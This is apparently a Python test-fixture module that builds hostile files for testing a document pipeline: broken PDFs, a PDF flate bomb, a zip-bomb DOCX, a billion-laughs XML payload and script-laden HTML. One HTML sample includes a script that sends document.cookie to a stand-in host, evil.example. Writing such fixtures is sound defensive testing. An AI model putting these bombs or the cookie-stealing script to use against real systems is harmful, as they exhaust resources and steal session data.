"""Byte-level builders for the hostile test files in ``tests/hostile.py``.

PDFs are assembled by hand (``build_pdf``) where a generator library would
refuse to write something this broken; the zip bombs are written member by
member, because zipfile would have to compress the gigabytes.
"""

from __future__ import annotations

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Sequence

FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"
LINE = b"BT /F1 12 Tf 72 720 Td (This page holds one short line of review text.) Tj ET"


# --------------------------------------------------------------------------- PDF plumbing


def build_pdf(objects: Sequence[bytes], *, trailer: bytes = b"") -> bytes:
    """A PDF whose object n (1-based) is ``objects[n-1]``, with a correct xref table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    for offset in offsets:
        out += f"{offset:010d} 00000 n \n".encode()
    out += (
        f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R ".encode()
        + trailer
        + f" >>\nstartxref\n{xref}\n%%EOF\n".encode()
    )
    return bytes(out)


def stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def one_page_pdf(
    content: bytes = LINE,
    *,
    count: int = 1,
    page_extra: bytes = b"",
    resources: bytes = b"",
    catalog_extra: bytes = b"",
    more: Sequence[bytes] = (),
    content_extra: bytes = b"",
) -> bytes:
    """Catalog 1, Pages 2, Page 3, Contents 4, Font 5, then ``more`` as 6, 7, ..."""
    return build_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog_extra,
            b"<< /Type /Pages /Kids [3 0 R] /Count %d >>" % count,
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
            b"/Resources << /Font << /F1 5 0 R >> %s >> %s >>" % (resources, page_extra),
            stream(content, content_extra),
            FONT,
            *more,
        ]
    )


def many_pages_pdf(n: int) -> bytes:
    """``n`` real pages sharing one content stream: small file, large page count."""
    first_page = 5
    kids = b" ".join(b"%d 0 R" % (first_page + i) for i in range(n))
    pages = [
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 3 0 R "
        b"/Resources << /Font << /F1 4 0 R >> >> >>"
    ] * n
    return build_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, n),
            stream(LINE),
            FONT,
            *pages,
        ]
    )


def doubling_tree_pdf(levels: int) -> bytes:
    """A page tree whose every node lists the next node twice: 2**levels pages declared."""
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>"]
    for k in range(levels):
        nxt = 3 + k
        objects.append(
            b"<< /Type /Pages /Kids [%d 0 R %d 0 R] /Count %d >>" % (nxt, nxt, 2 ** (levels - k))
        )
    page = 2 + levels
    objects.append(
        b"<< /Type /Page /MediaBox [0 0 612 792] /Contents %d 0 R "
        b"/Resources << /Font << /F1 %d 0 R >> >> >>" % (page + 1, page + 2)
    )
    objects += [stream(LINE), FONT]
    return build_pdf(objects)


def repeated_deflate(block: bytes, times: int) -> bytes:
    """Raw deflate data for ``block * times``, built from one compressed block.

    A full flush makes each compressed block independent of the previous
    ones, so the block can simply be repeated: gigabytes in a second, where
    compressing them for real would take a minute.
    """
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    one = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    return one * times + packer.flush(zlib.Z_FINISH)


def flate_bomb_pdf(expanded_mb: int) -> bytes:
    """One page whose content stream inflates from a few MB to ``expanded_mb`` MB.

    The zlib checksum is left as zeros on purpose: a decoder runs out of its
    budget long before it gets that far, and computing it over gigabytes would
    only slow the test down.
    """
    packed = b"\x78\xda" + repeated_deflate(b" " * (1 << 20), expanded_mb) + b"\0\0\0\0"
    return one_page_pdf(packed, content_extra=b"/Filter /FlateDecode")


def big_single_page_pdf(megabytes: int, rng: random.Random) -> bytes:
    """One page: a line of text over an incompressible ``megabytes`` MB image."""
    side = int((megabytes * 1024 * 1024 / 3) ** 0.5) + 1
    pixels = rng.randbytes(side * side * 3)
    image = stream(
        pixels,
        b"/Type /XObject /Subtype /Image /Width %d /Height %d "
        b"/ColorSpace /DeviceRGB /BitsPerComponent 8" % (side, side),
    )
    return one_page_pdf(
        b"q 612 0 0 792 0 0 cm /Im1 Do Q " + LINE,
        resources=b"/XObject << /Im1 6 0 R >>",
        more=[image],
    )


# --------------------------------------------------------------------------- DOCX plumbing


def zip_bytes(entries: dict[str, bytes], *, compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression=compression) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buf.getvalue()


CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="xml" ContentType="application/xml"/></Types>'
)


def zip_bomb_docx(expanded_mb: int) -> bytes:
    """A DOCX whose word/document.xml inflates from ~1/1000 of that to ``expanded_mb`` MB.

    Written by hand (zipfile would have to compress the gigabytes). The CRC of
    the bomb member is zero on purpose: nothing should ever inflate it far
    enough to check.
    """
    members = [
        ("[Content_Types].xml", 0, CONTENT_TYPES, zlib.crc32(CONTENT_TYPES), len(CONTENT_TYPES)),
        (
            "word/document.xml",
            8,
            repeated_deflate(b"<w:p/>" * (1 << 17), expanded_mb * 4 // 3),
            0,
            (6 << 17) * (expanded_mb * 4 // 3),
        ),
    ]
    out = bytearray()
    central = bytearray()
    for name, method, data, crc, size in members:
        offset = len(out)
        raw_name = name.encode()
        fields = (20, 0, method, 0, 0x21, crc, len(data), size, len(raw_name))
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, *fields, 0) + raw_name + data
        central += (
            struct.pack("<IH", 0x02014B50, 20)
            + struct.pack("<HHHHHIIIHHHHHII", *fields, 0, 0, 0, 0, 0, offset)
            + raw_name
        )
    start = len(out)
    out += central
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members),
                       len(central), start, 0)
    return bytes(out)


def billion_laughs_docx(template: bytes) -> bytes:
    """``template`` (a good DOCX) with a document.xml whose nested entities would
    expand to gigabytes if an XML parser resolved them."""
    entities = b'<!ENTITY lol "lol">' + b"".join(
        b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
        for i in range(1, 10)
    )
    xml = (
        b'<?xml version="1.0"?><!DOCTYPE w:document [' + entities + b"]>"
        b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        b"<w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body></w:document>"
    )
    with zipfile.ZipFile(io.BytesIO(template)) as good:
        entries = {name: good.read(name) for name in good.namelist()}
    entries["word/document.xml"] = xml
    return zip_bytes(entries)


# --------------------------------------------------------------------------- HTML

SCRIPT_HTML = """<!doctype html>
<html><head><title>Review of Child H &lt;b&gt;</title>
<script>fetch("https://evil.example/steal?c=" + document.cookie)</script>
<style>body { background: url(https://evil.example/pixel.png) }</style>
</head>
<body onload="alert('onload')">
<h1>Review of Child H</h1>
<p onclick="alert('click')">The school nurse noticed that Child H was often hungry and tired.
Teachers wrote &lt;script&gt;alert("xss")&lt;/script&gt; on the whiteboard as an example
of what an injected page might say, and the review quotes it here as text.</p>
<img src="x" onerror="alert('img')">
<p>The family moved house three times in a single year and each move closed a referral.
A distinctive detail: the review mentions a <a href="javascript:alert('link')">lantern
painted with herons</a> left on the doorstep.</p>
<iframe src="https://evil.example/frame"></iframe>
<script>document.write('<p>Injected by script: should never be indexed</p>')</script>
</body></html>
"""

ONLY_SCRIPTS_HTML = """<html><head><script>var a = 1;</script></head>
<body><script>for (;;) {}</script><style>p { color: red }</style></body></html>
"""


def deep_html(depth: int) -> str:
    return (
        "<html><body>" + "<div>" * depth + "<p>Deep text about a child and a school.</p>"
        + "</div>" * depth + "</body></html>"
    )
